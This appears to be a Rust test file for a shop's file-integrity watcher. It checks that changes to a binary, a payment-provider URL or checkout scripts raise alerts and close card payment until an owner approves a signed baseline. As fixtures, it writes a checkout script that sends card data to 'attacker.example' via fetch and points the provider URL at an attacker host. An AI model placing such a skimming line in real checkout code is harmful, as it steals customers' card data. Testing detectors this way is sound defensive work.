//! The watch over the shop's files, on real files on disk (never by calling the alert function):
//! a change raises its alert within a second; a change touching payment (the binary, the
//! configuration's provider URL, the checkout's assets) also closes card payment, which only an
//! owner's approval of a new baseline reopens; a baseline not signed by the guard key is refused.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use mamori_guard::files::{
    Baseline, Check, FileGuard, FileRole, GuardKey, HashCache, PaymentRule, Rehash, WatchItem,
    WatchSpec, CARD_PAYMENT,
};
use mamori_guard::{kinds, AlertConfig, Alerts, GuardError};
use mamori_store::{AlertFilter, AlertRow, Backend, Records};
use mamori_testkit::{both_backends, Env};

/// The configuration's payment-provider URL, as the binary's extractor reads it (a line here).
fn psp_url(bytes: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(bytes).ok()?;
    Some(
        text.lines()
            .find(|l| l.trim_start().starts_with("psp_url"))
            .unwrap_or("")
            .to_owned(),
    )
}

struct Shop {
    dir: tempfile::TempDir,
    spec: WatchSpec,
}

impl Shop {
    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }
}

fn shop_files() -> Shop {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::write(root.join("mamori"), b"\x7fELF binary v1").unwrap();
    std::fs::write(
        root.join("mamori.toml"),
        "[shop]\nname = \"守り商店\"\npsp_url = \"https://psp.example.jp/\"\n",
    )
    .unwrap();
    std::fs::write(root.join("master.key"), b"secret").unwrap();
    std::fs::set_permissions(
        root.join("master.key"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::write(root.join("witness.jsonl"), b"").unwrap();
    std::fs::create_dir_all(root.join("assets")).unwrap();
    std::fs::write(root.join("assets/site.css"), b"body{}").unwrap();
    std::fs::create_dir_all(root.join("checkout")).unwrap();
    std::fs::write(root.join("checkout/pay.js"), b"/* pay */").unwrap();
    let item = |p: &str, role, check, payment| WatchItem {
        path: root.join(p),
        role,
        check,
        payment,
    };
    let spec = WatchSpec {
        items: vec![
            item("mamori", FileRole::Binary, Check::Content, PaymentRule::Any),
            item(
                "mamori.toml",
                FileRole::Config,
                Check::Content,
                PaymentRule::Extract(psp_url),
            ),
            item(
                "master.key",
                FileRole::Key,
                Check::ModeOnly,
                PaymentRule::No,
            ),
            item(
                "witness.jsonl",
                FileRole::Witness,
                Check::ModeOnly,
                PaymentRule::No,
            ),
            item("assets", FileRole::Assets, Check::Tree, PaymentRule::No),
            item("checkout", FileRole::Assets, Check::Tree, PaymentRule::Any),
        ],
    };
    Shop { dir, spec }
}

async fn card_closed(records: &Arc<dyn Records>) -> bool {
    records
        .guard_switch(CARD_PAYMENT)
        .await
        .unwrap()
        .is_some_and(|s| s.state == "closed")
}

async fn alert_of(records: &Arc<dyn Records>, kind: &str, path: &Path) -> Option<AlertRow> {
    let subject = format!("file:{}", path.display());
    records
        .alerts_page(&AlertFilter::default(), 0, 100)
        .await
        .unwrap()
        .items
        .into_iter()
        .find(|a| a.kind == kind && a.subject == subject && a.state != "closed")
}

/// Waits for `cond` at most `limit`; returns how long it took.
async fn within<F, Fut>(limit: Duration, what: &str, mut cond: F) -> Duration
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let start = Instant::now();
    loop {
        if cond().await {
            return start.elapsed();
        }
        assert!(start.elapsed() < limit, "{what}: not within {limit:?}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

async fn changes_on_disk_raise_alerts_and_close_card_payment(backend: Backend) {
    let env = Env::start(backend).await;
    let shop = shop_files();
    let key = GuardKey::create(&shop.path("guard.key")).unwrap();
    let baseline_path = shop.path("guard-baseline.json");
    Baseline::observe(&shop.spec)
        .write_signed(&key, &baseline_path)
        .unwrap();
    let alerts = Alerts::new(
        env.gw.clone(),
        AlertConfig {
            shop_name: "守り商店".into(),
            backoffice_origin: None,
            webhook: None,
        },
    );
    let records = env.gw.records();
    let guard =
        Arc::new(FileGuard::open(shop.spec.clone(), baseline_path.clone(), key, alerts).unwrap());
    assert!(
        guard.check_all().await.unwrap().is_empty(),
        "nothing changed yet"
    );
    let _watch = guard.watch(Duration::from_secs(300)).unwrap();
    let second = Duration::from_secs(1);

    // A site stylesheet: an alert, card payment stays open.
    std::fs::write(shop.path("assets/site.css"), b"body{color:red}").unwrap();
    let css = shop.path("assets/site.css");
    within(second, "stylesheet", || async {
        alert_of(&records, kinds::FILE_CHANGED, &css)
            .await
            .is_some()
    })
    .await;
    assert!(!card_closed(&records).await);

    // The configuration's shop name: an alert, payment untouched.
    let toml = shop.path("mamori.toml");
    std::fs::write(
        &toml,
        "[shop]\nname = \"守り商店 本店\"\npsp_url = \"https://psp.example.jp/\"\n",
    )
    .unwrap();
    within(second, "config name", || async {
        alert_of(&records, kinds::FILE_CHANGED, &toml)
            .await
            .is_some()
    })
    .await;
    assert!(!card_closed(&records).await);
    let a = alert_of(&records, kinds::FILE_CHANGED, &toml)
        .await
        .unwrap();
    assert_eq!(a.severity, "warning", "a change that leaves payment alone");

    // The configuration's provider URL: card payment closes within a second.
    std::fs::write(
        &toml,
        "[shop]\nname = \"守り商店 本店\"\npsp_url = \"https://psp.attacker.example/\"\n",
    )
    .unwrap();
    within(second, "provider URL", || card_closed(&records)).await;
    // Card payment is closed first, then the alert's evidence follows.
    within(second, "provider URL evidence", || async {
        alert_of(&records, kinds::FILE_CHANGED, &toml)
            .await
            .is_some_and(|a| a.evidence.contains("\"payment_value_changed\":true"))
    })
    .await;
    let a = alert_of(&records, kinds::FILE_CHANGED, &toml)
        .await
        .unwrap();
    assert!(a.seen_count >= 2, "the same ongoing alert, counted");
    assert_eq!(
        (a.severity.as_str(), a.state.as_str()),
        ("critical", "open"),
        "the payment change escalates the ongoing warning"
    );

    // The binary replaced by a rename (how an attacker or an update swaps it).
    let bin = shop.path("mamori");
    std::fs::write(shop.path("mamori.new"), b"\x7fELF binary v2 with a skimmer").unwrap();
    std::fs::rename(shop.path("mamori.new"), &bin).unwrap();
    within(second, "binary", || async {
        alert_of(&records, kinds::FILE_CHANGED, &bin)
            .await
            .is_some()
    })
    .await;
    let a = alert_of(&records, kinds::FILE_CHANGED, &bin).await.unwrap();
    assert_eq!(a.severity, "critical");

    // A key file readable by others; a script added to the checkout.
    let key_file = shop.path("master.key");
    std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o644)).unwrap();
    within(second, "key mode", || async {
        alert_of(&records, kinds::FILE_MODE, &key_file)
            .await
            .is_some()
    })
    .await;
    let added = shop.path("checkout/extra.js");
    std::fs::write(&added, b"fetch('https://attacker.example/'+card)").unwrap();
    within(second, "added script", || async {
        alert_of(&records, kinds::FILE_ADDED, &added)
            .await
            .is_some()
    })
    .await;

    // Putting the binary back does not reopen card payment.
    std::fs::write(&bin, b"\x7fELF binary v1").unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(card_closed(&records).await);

    // An owner's approval: the new baseline is written, card payment reopens and the file
    // alerts close, in one call; the ledger records it with the reason.
    let approved = guard
        .approve("owner-1", "本番更新の確認済み（作業票 7）", "req-approve")
        .await
        .unwrap();
    assert!(!card_closed(&records).await);
    let sw = records.guard_switch(CARD_PAYMENT).await.unwrap().unwrap();
    assert_eq!(sw.changed_by.as_deref(), Some("owner-1"));
    let open = records
        .alerts_page(
            &AlertFilter {
                state: Some("open".into()),
                kind: None,
            },
            0,
            100,
        )
        .await
        .unwrap();
    assert_eq!(open.total, 0);
    let key = GuardKey::load(&shop.path("guard.key")).unwrap();
    assert_eq!(
        Baseline::read_verified(&baseline_path, &key).unwrap(),
        approved
    );
    assert!(guard.check_all().await.unwrap().is_empty());
    let size = env.store.ledger_size().await.unwrap();
    let entries = env.store.ledger_entries(0, size).await.unwrap();
    let approvals: Vec<_> = entries
        .iter()
        .map(|e| mamori_store::access::AccessEvent::from_bytes(&e.event).unwrap())
        .filter(|e| e.action == mamori_store::Action::Approve)
        .collect();
    assert_eq!(approvals.len(), 1);
    assert_eq!(
        approvals[0].reason.as_deref(),
        Some("本番更新の確認済み（作業票 7）")
    );
    // No reason, no approval.
    assert!(matches!(
        guard.approve("owner-1", " ", "req-2").await,
        Err(GuardError::Invalid(_))
    ));

    // After the approval, a new change is a new alert and closes payment again.
    std::fs::write(shop.path("checkout/pay.js"), b"/* pay v2 */").unwrap();
    within(second, "after approval", || card_closed(&records)).await;
}

#[test]
fn a_baseline_not_signed_by_the_guard_key_is_refused() {
    let shop = shop_files();
    let key = GuardKey::create(&shop.path("guard.key")).unwrap();
    let other = GuardKey::create(&shop.path("other.key")).unwrap();
    let path = shop.path("guard-baseline.json");
    let baseline = Baseline::observe(&shop.spec);
    assert_eq!(baseline.files.len(), 6);
    baseline.write_signed(&key, &path).unwrap();
    assert_eq!(Baseline::read_verified(&path, &key).unwrap(), baseline);
    // Another key's baseline.
    assert!(matches!(
        Baseline::read_verified(&path, &other),
        Err(GuardError::Baseline(_))
    ));
    // A hash changed inside the signed text.
    let text = std::fs::read_to_string(&path).unwrap();
    let sha = baseline
        .files
        .values()
        .find_map(|e| e.sha256.clone())
        .unwrap();
    let tampered = text.replacen(&sha, &"0".repeat(64), 1);
    assert_ne!(tampered, text);
    std::fs::write(&path, &tampered).unwrap();
    assert!(matches!(
        Baseline::read_verified(&path, &key),
        Err(GuardError::Baseline(_))
    ));
    // Unsigned: the bare baseline JSON.
    std::fs::write(&path, serde_json::to_string(&baseline).unwrap()).unwrap();
    assert!(matches!(
        Baseline::read_verified(&path, &key),
        Err(GuardError::Baseline(_))
    ));
    // Missing.
    std::fs::remove_file(&path).unwrap();
    assert!(matches!(
        Baseline::read_verified(&path, &key),
        Err(GuardError::Baseline(_))
    ));
    // The key file is 0600 and not created twice.
    let mode = std::fs::metadata(shop.path("guard.key"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    assert!(GuardKey::create(&shop.path("guard.key")).is_err());
}

/// A file event's check reuses the digest of a file whose stamp is unchanged, but a rewrite that
/// keeps the size and puts the modification time back is still read again (its change time
/// moved), and a removed file leaves the cache.
#[test]
fn a_rewrite_with_the_old_size_and_time_is_hashed_again() {
    let shop = shop_files();
    let mut cache = HashCache::default();
    let before = Baseline::observe_with(&shop.spec, &mut cache, Rehash::All);
    assert_eq!(before.files, Baseline::observe(&shop.spec).files);
    let unchanged = Baseline::observe_with(&shop.spec, &mut cache, Rehash::Changed);
    assert_eq!(
        unchanged.files, before.files,
        "nothing changed, nothing differs"
    );

    let pay = shop.path("checkout/pay.js");
    let modified = std::fs::metadata(&pay).unwrap().modified().unwrap();
    std::fs::write(&pay, b"/* PAY */").unwrap();
    assert_eq!(std::fs::metadata(&pay).unwrap().len(), 9, "the same size");
    let file = std::fs::File::options().write(true).open(&pay).unwrap();
    file.set_times(std::fs::FileTimes::new().set_modified(modified))
        .unwrap();
    drop(file);
    assert_eq!(
        std::fs::metadata(&pay).unwrap().modified().unwrap(),
        modified
    );

    let after = Baseline::observe_with(&shop.spec, &mut cache, Rehash::Changed);
    let key = |p: &Path| p.to_string_lossy().into_owned();
    assert_ne!(
        after.files[&key(&pay)].sha256,
        before.files[&key(&pay)].sha256,
        "the rewritten script is read again"
    );
    assert_eq!(
        after.files[&key(&pay)],
        Baseline::observe(&shop.spec).files[&key(&pay)]
    );
    let bin = shop.path("mamori");
    assert_eq!(after.files[&key(&bin)], before.files[&key(&bin)]);

    // Removed, then put back with other content: hashed, not taken from the cache.
    std::fs::remove_file(&bin).unwrap();
    let gone = Baseline::observe_with(&shop.spec, &mut cache, Rehash::Changed);
    assert!(!gone.files.contains_key(&key(&bin)));
    std::fs::write(&bin, b"\x7fELF binary v2").unwrap();
    let back = Baseline::observe_with(&shop.spec, &mut cache, Rehash::Changed);
    assert_ne!(
        back.files[&key(&bin)].sha256,
        before.files[&key(&bin)].sha256
    );
}

both_backends!(changes_on_disk_raise_alerts_and_close_card_payment);
